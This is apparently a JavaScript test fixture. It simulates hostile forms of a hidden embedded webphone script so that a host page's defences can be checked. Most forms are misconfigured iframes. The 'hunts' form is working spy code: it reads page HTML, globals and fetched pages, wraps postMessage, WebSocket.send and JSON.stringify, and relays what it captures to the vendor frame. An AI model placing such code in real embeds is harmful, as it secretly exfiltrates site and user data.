// The script of a hidden phone in its worst forms, of which the simulator's control chooses one. Each is something that a
// vendor's script could do, and that the page around it has to live with.
(() => {
  /** @type {string | { sibling_frame: { host: string } }} */
  const form = "{{forma}}";
  const { src } = /** @type {HTMLScriptElement} */ (document.currentScript);
  const place = document.getElementById("widget-evoline-api-container") ?? document.body ?? document.documentElement;

  /** A frame that may use the microphone and is not seen. */
  const makeFrame = () => {
    const frame = document.createElement("iframe");
    frame.allow = "microphone; autoplay";
    frame.title = "Webphone";
    frame.style.display = "none";
    frame.src = src;
    return frame;
  };

  /** @param {HTMLIFrameElement} frame */
  const leave = (frame) => {
    place.append(frame);
    Object.assign(window, { webphone: frame });
  };

  /** @type {Record<string, () => void>} */
  const forms = {
    without_allow: () => {
      const frame = makeFrame();
      frame.removeAttribute("allow");
      leave(frame);
    },
    late_source: () => {
      const frame = makeFrame();
      frame.removeAttribute("src");
      leave(frame);
      setTimeout(() => {
        frame.src = src;
      }, 50);
    },
    inner_html: () => {
      const address = src.replaceAll("&", "&amp;").replaceAll('"', "&quot;");
      const holder = document.createElement("div");
      place.append(holder);
      holder.innerHTML = `<iframe title="Webphone" hidden allow="microphone; autoplay" src="${address}"></iframe>`;
      Object.assign(window, { webphone: holder.firstElementChild });
    },
    style_attribute: () => {
      const frame = makeFrame();
      frame.removeAttribute("style");
      frame.setAttribute("style", "display: none");
      leave(frame);
    },
    chained: () => {
      const script = document.createElement("script");
      script.src = `${src}&segundo=1`;
      place.append(script);
    },
    many_frames: () => {
      const addHelper = () => {
        const frame = makeFrame();
        frame.src = new URL("/w3/helper.html", src).href;
        place.append(frame);
      };
      addHelper();
      leave(makeFrame());
      addHelper();
    },
    hunts: () => {
      const frame = makeFrame();
      const { port1, port2 } = new MessageChannel();
      frame.addEventListener("load", () => frame.contentWindow?.postMessage({ webphone_script: 1 }, "*", [port2]), {
        once: true,
      });
      leave(frame);
      // Its own words are no find: this is the way past what it listens in on.
      const tell = port1.postMessage.bind(port1);
      hunt((where, what) => tell(`${where}: ${what}`));
    },
    sibling_frame: () => {
      const frame = makeFrame();
      const address = new URL(src);
      address.host = /** @type {any} */ (form).sibling_frame.host;
      frame.src = address.href;
      leave(frame);
    },
  };

  /**
   * Looks for whatever the page around it would not tell, and tells it.
   * @param {(where: string, what: string) => void} found
   */
  function hunt(found) {
    const { stringify } = JSON;
    /** @param {unknown} what */
    const text = (what) => {
      try {
        return typeof what === "string" ? what : (stringify(what) ?? String(what));
      } catch {
        return String(what);
      }
    };
    /**
     * Listens in on a function.
     * @param {any} owner
     * @param {string} name
     * @param {string} where
     */
    const tap = (owner, name, where) => {
      const original = owner?.[name];
      if (typeof original !== "function") {
        return;
      }
      try {
        owner[name] = function (/** @type {unknown[]} */ ...values) {
          for (const value of values) {
            found(where, text(value));
          }
          return original.apply(this, values);
        };
      } catch {
        found(where, "is out of reach");
      }
    };
    for (const address of ["/", location.href]) {
      fetch(address)
        .then((answer) => answer.text())
        .then((body) => found(`fetch ${address}`, body))
        .catch((error) => found(`fetch ${address}`, String(error)));
    }
    found("document", document.documentElement.outerHTML);
    for (const name of Object.getOwnPropertyNames(window)) {
      const value = /** @type {any} */ (window)[name];
      if (typeof value === "string" || (Object.getPrototypeOf(value ?? 0) === Object.prototype && value !== null)) {
        found(`window.${name}`, text(value));
      }
    }
    tap(window, "postMessage", "window.postMessage");
    tap(MessagePort.prototype, "postMessage", "MessagePort.postMessage");
    tap(WebSocket.prototype, "send", "WebSocket.send");
    tap(JSON, "stringify", "JSON.stringify");
    tap(EventTarget.prototype, "dispatchEvent", "dispatchEvent");
    const handlers = /** @type {any} */ (window).webkit?.messageHandlers ?? {};
    for (const name of Object.getOwnPropertyNames(handlers)) {
      found("webkit.messageHandlers", name);
      tap(handlers[name], "postMessage", `webkit.messageHandlers.${name}`);
    }
    addEventListener("message", (event) => found("message", text(event.data)), true);
  }

  const name = typeof form === "string" ? form : "sibling_frame";
  forms[name]?.();
})();
